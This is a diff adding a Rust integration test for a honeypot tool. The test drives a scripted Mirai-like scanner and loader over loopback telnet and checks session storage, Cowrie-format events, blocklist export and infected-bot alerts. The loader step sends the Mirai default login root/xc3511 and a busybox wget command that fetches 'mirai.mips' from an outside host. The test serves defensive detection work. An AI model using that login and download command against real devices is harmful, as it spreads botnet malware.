@@ -1,0 +1,276 @@
+//! `iotscope honeypot` end to end on loopback: a scripted bot of our own
+//! (a Mirai-like scanner from 127.0.0.1, then its loader from 127.0.0.2)
+//! against the binary; the store holds both sessions linked, the loader's
+//! server becomes a blocklist entry, the events file is Cowrie JSON, and
+//! `alerts build` turns both addresses into corroborated infected_bot alerts.
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+fn bin() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_iotscope"))
+}
+
+struct Bot {
+    s: TcpStream,
+    seen: Vec<u8>,
+}
+
+impl Bot {
+    fn connect(from: &str, to: SocketAddr) -> Bot {
+        let sock =
+            socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
+        sock.bind(&SocketAddr::new(from.parse().unwrap(), 0).into())
+            .unwrap();
+        sock.connect_timeout(&to.into(), Duration::from_secs(5))
+            .unwrap();
+        let s: TcpStream = sock.into();
+        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        Bot {
+            s,
+            seen: Vec::new(),
+        }
+    }
+    fn expect(&mut self, marker: &str) -> Vec<u8> {
+        let m = marker.as_bytes();
+        loop {
+            if let Some(i) = self.seen.windows(m.len()).position(|w| w == m) {
+                let rest = self.seen.split_off(i + m.len());
+                return std::mem::replace(&mut self.seen, rest);
+            }
+            let mut buf = [0u8; 4096];
+            let n = self.s.read(&mut buf).unwrap_or_else(|e| {
+                panic!(
+                    "{e} before {marker:?}: {:?}",
+                    String::from_utf8_lossy(&self.seen)
+                )
+            });
+            assert!(n > 0, "closed before {marker:?}");
+            self.seen.extend_from_slice(&buf[..n]);
+        }
+    }
+    fn send(&mut self, line: &str) {
+        self.s.write_all(format!("{line}\r\n").as_bytes()).unwrap();
+    }
+    fn login(&mut self) {
+        self.expect("login: ");
+        self.send("root");
+        self.expect("Password: ");
+        self.send("xc3511");
+        self.expect("# ");
+    }
+}
+
+#[test]
+fn a_scanner_and_its_loader_reach_the_store_the_blocklist_and_the_alerts() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("h.db");
+    let events = dir.path().join("cowrie.json");
+    let mut child = bin()
+        .args([
+            "honeypot",
+            "--telnet",
+            "127.0.0.1:0",
+            "--persona",
+            "mips-router",
+            "--sensor",
+            "hp-test",
+        ])
+        .args([
+            "--login-fail-delay",
+            "0s",
+            "--duration",
+            "60s",
+            "--format",
+            "json",
+            "--seed",
+            "9",
+        ])
+        .arg("--db")
+        .arg(&db)
+        .arg("--events")
+        .arg(&events)
+        .arg("--payloads")
+        .arg(dir.path().join("payloads"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    // The bound address is on the first line of standard error.
+    let mut err = child.stderr.take().unwrap();
+    let mut line = Vec::new();
+    let mut b = [0u8; 1];
+    while !line.ends_with(b"\n") {
+        assert_eq!(
+            err.read(&mut b).unwrap(),
+            1,
+            "honeypot exited: {:?}",
+            String::from_utf8_lossy(&line)
+        );
+        line.push(b[0]);
+    }
+    let text = String::from_utf8_lossy(&line);
+    let addr: SocketAddr = text
+        .split_whitespace()
+        .find(|w| w.starts_with("127.0.0.1:"))
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(text.contains("as mips-router (hp-test)"), "{text}");
+
+    let mut scan = Bot::connect("127.0.0.1", addr);
+    scan.login();
+    for l in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"] {
+        scan.send(l);
+    }
+    scan.expect("MIRAI: applet not found");
+    scan.send("exit");
+    let mut rest = Vec::new();
+    let _ = scan.s.read_to_end(&mut rest);
+
+    let mut load = Bot::connect("127.0.0.2", addr);
+    load.login();
+    load.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
+    let elf = load.expect("ECCHI: applet not found");
+    let at = elf.windows(4).position(|w| w == b"\x7fELF").unwrap();
+    assert_eq!((elf[at + 5], elf[at + 19]), (2, 8), "big-endian MIPS");
+    load.send("cd /var; /bin/busybox wget http://11.0.9.7:8080/bins/mirai.mips -O - > .d; /bin/busybox ECCHI");
+    load.expect("ECCHI: applet not found");
+    load.send("exit");
+    let _ = load.s.read_to_end(&mut rest);
+
+    // SIGTERM: the honeypot stops and says what it did.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+    let out = loop {
+        if let Some(_status) = child.try_wait().unwrap() {
+            let mut s = String::new();
+            child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
+            break s;
+        }
+        assert!(Instant::now() < deadline, "no exit after SIGTERM");
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let summary: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
+    assert_eq!(summary["sessions"], 2);
+    assert_eq!(summary["logins"], 2);
+    assert_eq!(summary["linked"], 1);
+
+    let conn = rusqlite::Connection::open(&db).unwrap();
+    let rows: Vec<(String, String, Option<String>)> = conn
+        .prepare("SELECT src_ip, reason, linked_ip FROM honeypot_sessions ORDER BY start_ns")
+        .unwrap()
+        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(
+        rows,
+        vec![
+            ("127.0.0.1".into(), "exit".into(), None),
+            ("127.0.0.2".into(), "exit".into(), Some("127.0.0.1".into()))
+        ]
+    );
+    let url: String = conn
+        .query_row("SELECT url FROM honeypot_downloads", [], |r| r.get(0))
+        .unwrap();
+    assert_eq!(url, "http://11.0.9.7:8080/bins/mirai.mips");
+
+    // The events are Cowrie's.
+    let ev: Vec<serde_json::Value> = std::fs::read_to_string(&events)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(
+        ev.iter()
+            .filter(|e| e["eventid"] == "cowrie.session.connect")
+            .count(),
+        2
+    );
+    assert!(ev
+        .iter()
+        .all(|e| e["sensor"] == "hp-test" && e["timestamp"].as_str().unwrap().ends_with('Z')));
+    assert!(ev
+        .iter()
+        .any(|e| e["eventid"] == "cowrie.command.input" && e["input"] == "/bin/busybox MIRAI"));
+
+    // The loader's server is on the blocklist.
+    let list = dir.path().join("list.txt");
+    let st = bin()
+        .args(["blocklist", "export", "--format", "plain", "--db"])
+        .arg(&db)
+        .arg("--out")
+        .arg(&list)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    assert!(std::fs::read_to_string(&list)
+        .unwrap()
+        .lines()
+        .any(|l| l == "11.0.9.7"));
+
+    // Both bots are corroborated infections.
+    let st = bin()
+        .args(["alerts", "build", "--db"])
+        .arg(&db)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let out = bin()
+        .args(["alerts", "list", "--format", "json", "--db"])
+        .arg(&db)
+        .output()
+        .unwrap();
+    let alerts: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
+    let bots: Vec<(&str, &str)> = alerts
+        .iter()
+        .filter(|a| a["problem"] == "infected_bot")
+        .map(|a| {
+            (
+                a["ip"].as_str().unwrap(),
+                a["evidence"]["role"].as_str().unwrap_or(""),
+            )
+        })
+        .collect();
+    assert_eq!(
+        bots,
+        vec![("127.0.0.1", "scanner"), ("127.0.0.2", "loader")],
+        "{alerts:?}"
+    );
+    assert!(alerts
+        .iter()
+        .all(|a| a["evidence"]["evidence_level"] == "corroborated"));
+}
+
+#[test]
+fn bad_flags_say_what_is_wrong() {
+    let out = bin()
+        .args(["honeypot", "--db", "/nonexistent/x.db"])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--telnet ADDR:PORT"));
+    let out = bin()
+        .args(["honeypot", "--telnet", "localhost:23"])
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stderr).contains("expected ADDR:PORT"));
+    let out = bin()
+        .args([
+            "honeypot",
+            "--telnet",
+            "127.0.0.1:0",
+            "--persona",
+            "toaster",
+        ])
+        .output()
+        .unwrap();
+    let e = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        e.contains("no such persona") && e.contains("hisilicon-dvr"),
+        "{e}"
+    );
+}
